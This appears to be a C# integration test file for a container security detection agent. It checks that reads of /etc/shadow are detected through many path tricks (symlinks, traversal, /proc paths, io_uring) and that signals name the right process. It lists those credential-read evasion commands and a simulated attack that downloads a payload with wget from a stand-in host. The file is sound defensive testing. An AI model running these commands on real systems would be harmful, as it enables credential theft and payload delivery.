using WorkloadProfiles.Detection;
using WorkloadProfiles.Detection.Rules;
using WorkloadProfiles.Domain.Events;
using WorkloadProfiles.Domain.Signals;
using WorkloadProfiles.Testing;

namespace WorkloadProfiles.Agent.Tests;

/// <summary>
/// What detection makes of live captures: a signal names the file the kernel opened whatever path trick reached it, and
/// shows the process that acted — its own argv, pid and parents — never another process of the same node.
/// </summary>
[Collection(KernelCollection.Name)]
public sealed class FidelityTests(Podman podman)
{
    private static readonly TimeSpan Timeout = TimeSpan.FromSeconds(60);
    private const string Idle = "while true; do sleep 1; done";
    private const string CredentialRule = "wp.read-credentials";

    /// <summary>Each reads /etc/shadow another way; the marker names the variant in the reading shell's argv.</summary>
    private static readonly string[] PathTricks =
    [
        "cat /etc/shadow",
        "cat //etc//shadow",
        "cat /tmp/../etc/./shadow",
        "cat /etc/../etc/../etc/shadow",
        "cd /etc && cat shadow",
        "cd /etc && cat ./../etc/shadow",
        "cd /tmp && cat ../etc/shadow",
        "ln -sf /etc/shadow /tmp/link && cat /tmp/link",
        "ln -sf ../etc/shadow /tmp/relative-link && cat /tmp/relative-link",
        "ln -sfn /etc /tmp/etc-dir && cat /tmp/etc-dir/shadow",
        "/bin/openat /etc shadow",
        "/bin/openat / etc/shadow",
        "cd /tmp && /bin/openat .. etc/shadow",
        "cat /proc/self/root/etc/shadow",
        "cd /etc && cat /proc/self/cwd/shadow",
        "read x < /etc//shadow",
        "cd / && read x < etc/shadow",
        "exec 3</etc/shadow; cat /dev/fd/3",
        // io_uring opens never pass the open syscalls: inline in io_uring_enter, and on an io-wq worker thread.
        "/bin/uring_open /etc/shadow",
        "/bin/uring_open /etc/shadow async",
        "cd /etc && /bin/uring_open shadow async",
        "cd /tmp && /bin/uring_open ../etc//shadow",
    ];

    [Fact]
    public async Task A_credential_file_read_through_any_path_trick_raises_the_same_signal_with_the_canonical_path()
    {
        var image = await podman.ImportImageAsync("paths");
        // Unconfined like a Kubernetes pod without a seccomp profile: podman's default profile refuses io_uring_setup.
        var id = await podman.StartAsync(image, Idle, remove: false, "--security-opt", "seccomp=unconfined");
        await podman.CopyIntoAsync(id, await Podman.BuildProbeAsync("openat"), "/bin/openat");
        await podman.CopyIntoAsync(id, await Podman.BuildProbeAsync("uring_open"), "/bin/uring_open");
        var publisher = new InMemoryPublisher();
        await using var agent = AgentHarness.Start(podman, "paths", publisher);
        await Poll.UntilAsync(() => agent.Host.WatchedContainerIds.Contains(id), Timeout, "the container to be watched");

        var variants = PathTricks;
        for (var i = 0; i < variants.Length; i++)
        {
            var result = await podman.ExecAsync(id, $": trick-{i}; {variants[i]}");
            Assert.True(result.ExitCode == 0, $"variant {i} `{variants[i]}` failed in the container: {result.Error}");
        }

        var engine = new DetectionEngine(RuleSet.LoadDefault());
        var signals = new List<SecuritySignal>();
        await Poll.UntilAsync(() =>
        {
            foreach (var batch in publisher.TakeBatches(id)) signals.AddRange(engine.Evaluate(batch));
            return variants.Select((_, i) => i).All(i => SignalOfVariant(signals, i) is not null);
        }, Timeout, "a credential signal for every variant");

        for (var i = 0; i < variants.Length; i++)
        {
            var signal = SignalOfVariant(signals, i)!;
            Assert.True(signal.Behaviour.FilePath == "/etc/shadow", $"variant `{variants[i]}` was seen as {signal.Behaviour.FilePath}");
            Assert.Equal(signal.Behaviour.FilePath, signal.Message.Split(" opened ")[1].Split(" for ")[0]);
        }
    }

    [Fact]
    public async Task Two_processes_of_one_node_with_different_arguments_each_show_their_own_argv_pid_and_parents()
    {
        var image = await podman.ImportImageAsync("own-argv");
        var id = await podman.StartAsync(image, Idle);
        var publisher = new InMemoryPublisher();
        await using var agent = AgentHarness.Start(podman, "own-argv", publisher);
        await Poll.UntilAsync(() => agent.Host.WatchedContainerIds.Contains(id), Timeout, "the container to be watched");

        // The same program under the same kind of shell: one node (`sh -c *` › `wget`), two different processes.
        const string healthCheck = ": health-check; wget -q -O /dev/null http://127.0.0.1:1/health; true";
        const string attack = ": attack; wget -q -O /tmp/p http://10.9.9.9:4444/payload.sh; true";
        await podman.ExecAsync(id, healthCheck);
        await podman.ExecAsync(id, attack);

        var engine = new DetectionEngine(RuleSet.LoadDefault());
        var signals = new List<SecuritySignal>();
        bool Has(string rule, string marker) => signals.Any(s => s.RuleId == rule && s.Process!.Args.Any(a => a.Contains(marker, StringComparison.Ordinal)));
        await Poll.UntilAsync(() =>
        {
            foreach (var batch in publisher.TakeBatches(id)) signals.AddRange(engine.Evaluate(batch));
            return Has("wp.network-tool", "127.0.0.1:1/health") && Has("wp.network-tool", "payload.sh") && Has("wp.mining-port", "payload.sh");
        }, Timeout, "the network-tool signals of both wget processes and the attack's connect signal");

        var benign = signals.Single(s => s.RuleId == "wp.network-tool" && s.Process!.Args.Contains("http://127.0.0.1:1/health"));
        var hostile = signals.Single(s => s.RuleId == "wp.network-tool" && s.Process!.Args.Contains("http://10.9.9.9:4444/payload.sh"));
        var connect = signals.Single(s => s.RuleId == "wp.mining-port");
        Assert.True(NodeOf(benign) == NodeOf(hostile), $"one node: {Describe(benign)} vs {Describe(hostile)}");
        Assert.NotEqual(benign.Process!.Pid, hostile.Process!.Pid);
        Assert.Equal(["wget", "-q", "-O", "/tmp/p", "http://10.9.9.9:4444/payload.sh"], hostile.Process.Args);
        Assert.Equal("/bin/busybox", hostile.Process.ExecutablePath);
        // The connect came from the attack's wget: its signal shows that process, not the health check seen first.
        Assert.Equal(hostile.Process.Pid, connect.Process!.Pid);
        Assert.Equal(hostile.Process.Args, connect.Process.Args);
        Assert.Contains("payload.sh", connect.Message, StringComparison.Ordinal);
        // Each process's parent is its own shell, with its own script.
        Assert.Equal(["/bin/sh", "-c", healthCheck], benign.Behaviour.Ancestry[^2].Args);
        Assert.Equal(["/bin/sh", "-c", attack], hostile.Behaviour.Ancestry[^2].Args);
        Assert.Equal(hostile.Process.Ppid, hostile.Behaviour.Ancestry[^2].Pid);
        Assert.Equal(hostile.Process.Pid, hostile.Behaviour.Ancestry[^1].Pid);
        Assert.All([benign, hostile, connect], s => Assert.True(s.Process!.StartUs > 0, "the process start time is captured"));
        Assert.Equal("/", hostile.Process.WorkingDirectory);
    }

    private static SecuritySignal? SignalOfVariant(IEnumerable<SecuritySignal> signals, int variant) =>
        signals.FirstOrDefault(s => s.RuleId == CredentialRule
            && s.Behaviour.Ancestry.Any(p => p.Args.Any(a => a.StartsWith($": trick-{variant};", StringComparison.Ordinal))));

    private static string Describe(SecuritySignal s) =>
        string.Join(" › ", s.Behaviour.Ancestry.Select(p => $"{p.ExecutablePath} [{string.Join(' ', p.Args)}] pid {p.Pid}"));

    private static ulong NodeOf(SecuritySignal signal) => Domain.Identity.NodeIdentity.ProcessNodeOf(signal.Behaviour.Ancestry);
}
